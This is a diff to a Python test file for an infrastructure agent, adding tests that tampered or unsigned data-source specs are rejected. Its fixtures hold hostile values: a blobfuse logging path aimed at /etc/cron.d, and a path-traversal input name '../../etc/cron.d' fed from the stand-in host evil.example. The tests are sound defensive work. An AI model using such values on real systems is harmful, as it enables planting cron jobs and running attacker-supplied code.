@@ -20,7 +20,7 @@ from tfinfra.agent.faults import NodeFault, RunEnded, RunStopped
 from tfinfra.agent.host import Host
 from tfinfra.agent.records import read, write
 from tfinfra.model import DataSource, DataSources, Heartbeat, Input, Inventory, Outcome, Plan, Timeouts, to_json
-from tfinfra.sealing import NodeKey, Sealed, digest_of, new_run_key, seal
+from tfinfra.sealing import NodeKey, Sealed, digest_of, mark, new_run_key, seal
 from tfinfra.store import MemoryStore
 
 PS = plan_of(spec("ps", node_count=2, worker_count=2), base_port=21422)
@@ -49,7 +49,7 @@ def hand_in(run: Cluster) -> None:
         run.store.put(f"inputs/{name}", b"1")
     url = (run.folder / "store").as_uri()
     digits, old = (DataSource("download", store=url, prefix=f"inputs/{name}") for name in ("digits", "old"))
-    run.store.put(layout.DATA, json.dumps(to_json(DataSources({"digits": digits}, old))).encode())
+    run.store.put(layout.DATA, json.dumps(to_json(by(KEY, DataSources({"digits": digits}, old)))).encode())
 
 
 def hand_over(run: Cluster) -> Inventory:
@@ -122,6 +122,36 @@ def test_a_secret_that_is_missing_among_them_is_named(tmp_path: Path) -> None:
     host = _host(tmp_path, store, secrets=("TOKEN", "OTHER"))
     with pytest.raises(NodeFault, match="no value of OTHER"):
         gather.gather(host, met(key), 0, tmp_path, key)
+
+
+LURE = DataSources({"digits": DataSource("mount", blobfuse="logging: {file-path: /etc/cron.d/x}")})
+OUT = DataSources({"../../etc/cron.d": DataSource("download", store="https://evil.example/c")})
+
+
+def by(key: str, said: DataSources, really: DataSources | None = None) -> DataSources:
+    """`really`, marked as if it said what `said` does."""
+    return replace(really or said, mark=mark(key, *said.words()))
+
+
+FOREIGN_DATA = {
+    "without a mark": (LURE, "does not come from the run's client"),
+    "marked with another key": (by(new_run_key(), LURE), "does not come from the run's client"),
+    "changed after it was marked": (by(KEY, DataSources({}), LURE), "does not come from the run's client"),
+    "of an input that nobody named": (by(KEY, OUT), "an input that the plan does not name: '../../etc/cron.d'"),
+}
+
+
+@pytest.mark.parametrize("case", FOREIGN_DATA)
+def test_where_the_data_is_comes_from_the_runs_client_alone(case: str, tmp_path: Path) -> None:
+    said, why = FOREIGN_DATA[case]
+    store, key = MemoryStore(), NodeKey()
+    store.put(layout.SECRETS, seal(Sealed({}, KEY), [key.public]))
+    write(store, layout.DATA, said)
+    host = _host(tmp_path, store, inputs=(Input("digits", "download", path="digits"),))
+    with pytest.raises(NodeFault, match=why):
+        gather.gather(host, met(key), 0, tmp_path, key)
+    write(store, layout.DATA, by(KEY, DataSources({})))
+    assert gather.gather(host, met(key), 0, tmp_path, key).key == KEY
 
 
 ENDS: dict[str, tuple[str, object, type[Exception]]] = {
